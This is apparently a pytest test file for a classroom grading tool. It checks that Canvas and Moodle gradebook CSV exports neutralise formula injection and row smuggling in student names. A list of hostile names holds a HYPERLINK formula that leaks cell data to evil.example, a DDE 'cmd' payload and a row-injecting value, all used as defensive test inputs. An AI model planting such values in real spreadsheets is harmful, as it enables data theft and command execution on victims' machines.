"""The gradebook CSV: one row per student for Canvas or Moodle, safe in a spreadsheet.

The file is read back with the csv module, as an importer reads it; a
student's folder name is the attacker's field: it must come back as text,
never as a formula, and never as a second row.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from engine.app.classroom.gradebook import gradebook_text, read_roster, spreadsheet_safe
from engine.app.classroom.results import ExerciseResult


def result(number: str, points: float, most: float = 3.0) -> ExerciseResult:
    status = "passed" if points == most else "failed"
    return ExerciseResult(number, f"title {number}", status, points, most, "")


GRADES = {"bo": [result("2.1", 3.0), result("2.2", 1.5)],
          "ada": [result("2.1", 3.0), result("2.2", 3.0)]}


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx",
                                  "=HYPERLINK(\"http://x\",\"y\")"])
def test_a_formula_start_gets_a_quote(cell: str):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["ada", "3", "0", "a=b", "x-1", "'quoted", ""])
def test_other_cells_are_left_as_they_are(cell: str):
    assert spreadsheet_safe(cell) == cell


def test_canvas_has_its_columns_points_possible_and_a_row_per_student():
    table = rows(gradebook_text(GRADES, "canvas"))
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                        "Exercise 2.1: title 2.1", "Exercise 2.2: title 2.2", "sweepgrad total"]
    assert table[1] == ["Points Possible", "", "", "", "", "3", "3", "6"]
    assert table[2:] == [["ada", "", "", "ada", "", "3", "3", "6"],
                         ["bo", "", "", "bo", "", "3", "1.5", "4.5"]]


def test_moodle_has_an_identifier_column_and_a_row_per_student():
    table = rows(gradebook_text(GRADES, "moodle"))
    assert table[0][:3] == ["Username", "Email address", "ID number"]
    assert [(r[0], r[-1]) for r in table[1:]] == [("ada", "6"), ("bo", "4.5")]


def test_a_roster_gives_the_identities(tmp_path: Path):
    roster = tmp_path / "roster.csv"
    roster.write_text("student,SIS Login ID,Email address,Student\n"
                      "ada,al123,ada@example.org,\"Lovelace, Ada\"\nbo,bo7,bo@example.org,Bo\n",
                      encoding="utf-8")
    known = read_roster(roster)
    canvas = rows(gradebook_text(GRADES, "canvas", known))
    assert [r[:5] for r in canvas[2:]] == [["Lovelace, Ada", "", "", "al123", ""],
                                           ["Bo", "", "", "bo7", ""]]
    moodle = rows(gradebook_text(GRADES, "moodle", known))
    assert [r[1] for r in moodle[1:]] == ["ada@example.org", "bo@example.org"]
    with pytest.raises(ValueError, match="bo is not in the roster"):
        gradebook_text(GRADES, "canvas", {"ada": known["ada"]})


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"grades")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1)", 'ada",1,2\nmallory', "tab\there", "x;y"]


def test_hostile_names_stay_one_cell_of_text():
    grades = {name: [result("2.1", 0.0)] for name in HOSTILE}
    for form in ("canvas", "moodle"):
        table = rows(gradebook_text(grades, form))
        students = table[2:] if form == "canvas" else table[1:]
        assert len(students) == len(HOSTILE)
        assert all(len(r) == len(table[0]) for r in table)
        names = [r[0] for r in students]
        assert sorted(n.removeprefix("'") for n in names) == sorted(HOSTILE)
        assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def test_the_grade_command_writes_the_gradebook(release: Path, tmp_path: Path):
    classroom = tmp_path / "class"
    shutil.copytree(release / "key" / "modules", classroom / "ada")
    shutil.copytree(release / "starter" / "modules", classroom / "=1+2")
    out = tmp_path / "book.csv"
    script = Path(sys.executable).with_name("sweepgrad")
    done = subprocess.run([str(script), "grade", str(classroom), "--exercises", "2.1,2.2",
                           "--out", str(tmp_path / "grades.csv"), "--gradebook", str(out),
                           "--quiet"], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    table = rows(out.read_text(encoding="utf-8"))
    assert [r[0] for r in table[2:]] == ["'=1+2", "ada"]
    assert [r[-1] for r in table[1:]] == ["6", "0", "6"]
    long = rows((tmp_path / "grades.csv").read_text(encoding="utf-8"))
    assert {r[0] for r in long[1:]} == {"'=1+2", "ada"}


def test_a_roster_without_a_student_column_is_refused(tmp_path: Path):
    roster = tmp_path / "roster.csv"
    roster.write_text("name,email\nada,a@example.org\n", encoding="utf-8")
    with pytest.raises(ValueError, match="'student' column"):
        read_roster(roster)


def test_a_student_named_points_possible_does_not_set_canvas_maxima():
    grades = {"Points Possible": [result("2.1", 0.0)], "ada": [result("2.1", 3.0)]}
    table = rows(gradebook_text(grades, "canvas"))
    # Canvas reads any row whose first cell contains "Points Possible" as the maxima.
    assert [r[0] for r in table if "Points Possible" in r[0]] == ["Points Possible"]
    assert table[1][5] == "3"
    student = next(r for r in table[2:] if r[3] == "Points Possible")
    assert student[0] == "Points_Possible" and student[5] == "0"
